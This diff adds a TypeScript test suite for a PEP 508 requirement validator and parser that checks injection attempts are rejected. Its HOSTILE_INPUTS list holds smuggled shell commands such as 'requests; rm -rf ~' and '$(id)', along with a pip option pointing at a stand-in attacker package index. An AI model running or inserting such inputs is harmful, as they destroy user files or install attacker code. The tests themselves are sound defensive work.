@@ -0,0 +1,89 @@
+import * as assert from 'assert';
+import { RequirementParseError, isValidProjectName, parseRequirement, validateRequirementInput } from '../utils/pep508';
+
+// Input a user could type, or a webview could send, to get pip or a shell to do something else
+const HOSTILE_INPUTS = [
+    'requests; rm -rf ~',
+    'requests && rm -rf ~',
+    'requests | sh',
+    '--index-url x',
+    '--index-url https://evil.example/simple requests',
+    '-r file',
+    '-e .',
+    'pkg @ notaurl',
+    '$(id)',
+    'requests==$(id)',
+    '`id`',
+    'requests==`id`',
+    'requests\nrm -rf ~',
+    'requests; python_version >= "3" and `id`'
+];
+
+suite('pep508', () => {
+    suite('validateRequirementInput', () => {
+        for (const input of HOSTILE_INPUTS) {
+            test(`rejects ${JSON.stringify(input)}`, () => {
+                assert.ok(validateRequirementInput(input));
+            });
+        }
+
+        test('rejects empty input', () => {
+            assert.strictEqual(validateRequirementInput('   '), 'Enter a package name');
+        });
+
+        test('accepts valid requirements', () => {
+            for (const input of [
+                'requests',
+                'requests==2.28.1',
+                'requests[socks,security]>=2.0,<3',
+                'attrs<20',
+                'pkg @ https://example.com/pkg-1.0-py3-none-any.whl',
+                'pywin32; sys_platform == "win32"',
+                'Django (>=4.2)'
+            ]) {
+                assert.strictEqual(validateRequirementInput(input), undefined, input);
+            }
+        });
+    });
+
+    suite('parseRequirement', () => {
+        for (const input of HOSTILE_INPUTS) {
+            test(`throws on ${JSON.stringify(input)}`, () => {
+                assert.throws(() => parseRequirement(input), RequirementParseError);
+            });
+        }
+
+        test('reads name, extras, specifiers and marker', () => {
+            assert.deepStrictEqual(parseRequirement('requests[socks] >=2.0, <3 ; python_version >= "3.8"'), {
+                name: 'requests',
+                extras: ['socks'],
+                specifiers: [{ operator: '>=', version: '2.0' }, { operator: '<', version: '3' }],
+                marker: 'python_version >= "3.8"'
+            });
+        });
+
+        test('reads a direct reference', () => {
+            const requirement = parseRequirement('pkg @ git+https://example.com/pkg.git@v1');
+            assert.strictEqual(requirement.url, 'git+https://example.com/pkg.git@v1');
+        });
+
+        test('rejects invalid versions and wildcards', () => {
+            assert.throws(() => parseRequirement('requests==not a version'), RequirementParseError);
+            assert.throws(() => parseRequirement('requests>=2.*'), RequirementParseError);
+        });
+    });
+
+    suite('isValidProjectName', () => {
+        test('accepts project names', () => {
+            for (const name of ['requests', 'zope.interface', 'typing_extensions', 'A1', 'x']) {
+                assert.ok(isValidProjectName(name), name);
+            }
+        });
+
+        test('rejects specs, options and shell syntax', () => {
+            for (const name of ['requests==2.0', 'requests[socks]', '-r', '--index-url', '$(id)', '`id`', 'a b', 'pkg;', '-pkg', 'pkg-', '']) {
+                assert.ok(!isValidProjectName(name), name);
+            }
+        });
+    });
+});